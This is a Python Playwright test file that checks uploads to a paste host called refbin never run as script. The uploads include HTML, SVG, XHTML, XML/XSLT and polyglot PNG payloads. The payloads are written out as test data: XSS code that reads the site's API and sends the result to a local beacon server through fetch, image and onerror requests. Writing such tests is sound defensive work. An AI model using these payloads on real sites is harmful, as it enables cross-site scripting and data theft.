"""Uploaded active content never runs on refbin's origin, in a real browser (headless Chromium).

HTML, XHTML, SVG with script, XML with an XSLT stylesheet and embedded XHTML script, a
JavaScript file, an HTML file that loads that script by its raw URL, a paste of HTML and a
PNG with HTML after its end are uploaded; the browser then opens each item's page and raw URL,
and another site embeds them with <img>, <iframe>, <object>, <embed> and <script>. Every
payload would, if it ran, set `window.__pwned`, retitle the page, open a dialog and call a beacon
on a second local server; none of that may happen. A control page on the beacon's own origin
runs the same payload, so the detectors are shown to work.
"""

from __future__ import annotations

import socket
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import aiohttp
import pytest
from aiohttp import web
from playwright.async_api import Dialog, Frame, Page
from playwright.async_api import Error as PlaywrightError

from tests.browser_fixtures import (  # noqa: F401 - fixtures
    LiveServer,
    Tabs,
    browser_fixture,
    live_server_fixture,
    tabs_fixture,
)
from tests.helpers import id_of, png_bytes


@dataclass
class Beacon:
    """A second site (127.0.0.2): records every request; serves the pages tests give it."""

    url: str
    hits: list[str] = field(default_factory=list)
    pages: dict[str, str] = field(default_factory=dict)


@pytest.fixture(name="beacon")
async def beacon_fixture() -> AsyncIterator[Beacon]:
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.2", 0))
    beacon = Beacon(url=f"http://127.0.0.2:{sock.getsockname()[1]}")

    async def anything(request: web.Request) -> web.Response:
        beacon.hits.append(request.path_qs)
        page = beacon.pages.get(request.path)
        if page is not None:
            return web.Response(text=page, content_type="text/html")
        if request.path.endswith(".js"):
            return web.Response(text="window.__control = true;", content_type="text/javascript")
        return web.Response(text="", headers={"Access-Control-Allow-Origin": "*"})

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", anything)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.SockSite(runner, sock).start()
    try:
        yield beacon
    finally:
        await runner.cleanup()


def script(beacon: str, name: str) -> str:
    """What a payload does when it runs: marks the window, retitles, alerts, reads the API and
    calls the beacon (by fetch and by an image, in case one of them is blocked)."""
    return (
        f"window.__pwned = '{name}'; document.title = 'pwned'; "
        f"fetch('/api/v1/items').then(r => r.text()).then(t => "
        f"fetch('{beacon}/{name}/exfil?' + encodeURIComponent(t.slice(0, 200)))); "
        f"fetch('{beacon}/{name}/fetch', {{mode: 'no-cors'}}); "
        f"new Image().src = '{beacon}/{name}/img'; alert('{name}');"
    )


def payloads(beacon: str, script_id: str) -> dict[str, bytes]:
    """Every kind of active content; each would reach the beacon, script or not."""
    html = (
        "<!doctype html><html><head><title>original</title>"
        f'<meta http-equiv="refresh" content="0;url={beacon}/html/refresh">'
        f'<link rel="stylesheet" href="{beacon}/html/css"></head><body>'
        f"<script>{script(beacon, 'html')}</script>"
        f"<img src=x onerror=\"fetch('{beacon}/html/onerror')\">"
        f'<img src="{beacon}/html/plain-img"></body></html>'
    )
    xhtml = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>original</title></head>'
        f"<body><script>//<![CDATA[\n{script(beacon, 'xhtml')}\n//]]></script>"
        f'<img src="{beacon}/xhtml/plain-img"/></body></html>'
    )
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'{beacon}/svg/onload\')">'
        f"<script>{script(beacon, 'svg')}</script>"
        f'<image href="{beacon}/svg/image" width="10" height="10"/></svg>'
    )
    xml = (
        '<?xml version="1.0"?>\n'
        f'<?xml-stylesheet type="text/xsl" href="{beacon}/xml/style.xsl"?>\n'
        '<root xmlns:h="http://www.w3.org/1999/xhtml">'
        f"<h:script>{script(beacon, 'xml')}</h:script>"
        f'<h:img src="{beacon}/xml/plain-img"/></root>'
    )
    loader = (
        f'<!doctype html><title>original</title><script src="/{script_id}/raw"></script>'
        f'<script src="/{script_id}/raw?download=0"></script>'
    )
    return {
        "html": html.encode(),
        "xhtml": xhtml.encode(),
        "svg": svg.encode(),
        "xml": xml.encode(),
        "script-loader": loader.encode(),
        "png-then-html": png_bytes(8, 8) + html.encode(),
    }


async def upload(server: LiveServer, name: str, data: bytes, *, as_paste: bool = False) -> str:
    form = aiohttp.FormData(quote_fields=False)
    if as_paste:
        form.add_field("text", data.decode())
        form.add_field("language", "html")
    else:
        # Names and declared types that invite a browser to render: they must not matter.
        form.add_field("file", data, filename=f"{name}.html", content_type="text/html")
    async with (
        aiohttp.ClientSession() as session,
        session.post(server.url + "/", data=form) as answer,
    ):
        assert answer.status == 201, await answer.text()
        return id_of(await answer.text())


async def open_in(page: Page, url: str) -> str:
    """Navigate; 'download' when the browser saved the answer instead of showing it."""
    try:
        response = await page.goto(url, wait_until="load")
    except PlaywrightError as exc:
        if "Download is starting" in exc.message:
            return "download"
        raise
    await page.wait_for_load_state("networkidle")
    assert response is not None
    return response.headers.get("content-type", "")


async def pwned(frame: Frame | Page) -> object:
    try:
        return await frame.evaluate("() => window.__pwned ?? null")
    except PlaywrightError:  # an error page (a refused frame) runs nothing at all
        return None


def watch_dialogs(page: Page) -> list[str]:
    seen: list[str] = []

    async def dismiss(dialog: Dialog) -> None:
        seen.append(dialog.message)
        await dialog.dismiss()

    page.on("dialog", dismiss)
    return seen


async def test_uploaded_active_content_never_runs_on_refbins_origin(
    tabs: Tabs, live_server: LiveServer, beacon: Beacon
) -> None:
    tab = await tabs.open()
    page = tab.page
    dialogs = watch_dialogs(page)
    # The detectors work: the same payload on the beacon's own origin is caught by each.
    beacon.pages["/control"] = (
        f"<title>original</title><script>{script(beacon.url, 'control')}</script>"
    )
    await open_in(page, beacon.url + "/control")
    assert await pwned(page) == "control" and await page.title() == "pwned"
    assert dialogs == ["control"]
    assert {"/control/fetch", "/control/img"} <= set(beacon.hits)
    beacon.hits.clear()
    dialogs.clear()

    script_id = await upload(live_server, "script", script(beacon.url, "js").encode())
    items = {"js": script_id}
    for name, data in payloads(beacon.url, script_id).items():
        items[name] = await upload(live_server, name, data)
    items["html-paste"] = await upload(
        live_server, "paste", payloads(beacon.url, script_id)["html"], as_paste=True
    )

    outcomes: dict[str, str] = {}
    for name, content_id in items.items():
        for path in (f"/{content_id}", f"/{content_id}/raw", f"/{content_id}/raw?download=0"):
            outcomes[f"{name} {path}"] = await open_in(page, live_server.url + path)
            assert await pwned(page) is None, (name, path)
            assert await page.title() != "pwned", (name, path)
    assert dialogs == []
    assert beacon.hits == []
    # How each was answered: refbin's own page, an attachment, or inert text or image.
    assert outcomes[f"html /{items['html']}/raw"] == "download"
    assert outcomes[f"svg /{items['svg']}/raw"] == "download"
    assert outcomes[f"xml /{items['xml']}/raw"] == "download"
    assert outcomes[f"xhtml /{items['xhtml']}/raw"] == "download"
    assert outcomes[f"script-loader /{items['script-loader']}/raw"] == "download"
    assert outcomes[f"js /{items['js']}/raw"].startswith("text/plain")
    assert outcomes[f"html-paste /{items['html-paste']}/raw"].startswith("text/plain")
    assert outcomes[f"png-then-html /{items['png-then-html']}/raw"] == "image/png"
    assert all(outcomes[f"{n} /{i}"].startswith("text/html") for n, i in items.items())


async def test_another_site_embedding_uploads_runs_none_of_them(
    tabs: Tabs, live_server: LiveServer, beacon: Beacon
) -> None:
    script_id = await upload(live_server, "script", script(beacon.url, "js").encode())
    found = payloads(beacon.url, script_id)
    ids = {name: await upload(live_server, name, found[name]) for name in ("html", "svg", "xml")}
    raw = {name: f"{live_server.url}/{content_id}/raw" for name, content_id in ids.items()}
    beacon.pages["/embed"] = (
        "<!doctype html><title>original</title>"
        f'<img src="{raw["svg"]}"><img src="{raw["html"]}">'
        f'<iframe src="{raw["html"]}"></iframe><iframe src="{raw["svg"]}"></iframe>'
        f'<iframe src="{live_server.url}/{ids["html"]}"></iframe>'
        f'<object data="{raw["svg"]}"></object><embed src="{raw["xml"]}">'
        f'<script src="{live_server.url}/{script_id}/raw"></script>'
        f'<script src="{live_server.url}/{script_id}"></script>'
        '<script src="/control.js"></script>'
    )
    tab = await tabs.open()
    page = tab.page
    dialogs = watch_dialogs(page)
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    await open_in(page, beacon.url + "/embed")

    assert await page.evaluate("() => window.__control") is True  # scripts run on this page
    assert await pwned(page) is None  # but refbin's bytes never ran as script here
    assert await page.title() == "original"
    for frame in page.frames:
        assert await pwned(frame) is None, frame.url
    assert dialogs == []
    assert [hit for hit in beacon.hits if hit != "/favicon.ico"] == ["/embed", "/control.js"]
    # The browser did fetch the uploaded script (text/plain, nosniff) and did not run it.
    assert f"{live_server.url}/{script_id}/raw" in requested
    assert f"{live_server.url}/{script_id}" in requested
    # refbin's own page refuses to be framed.
    assert any("frame-ancestors 'none'" in error for error in tab.errors), tab.errors
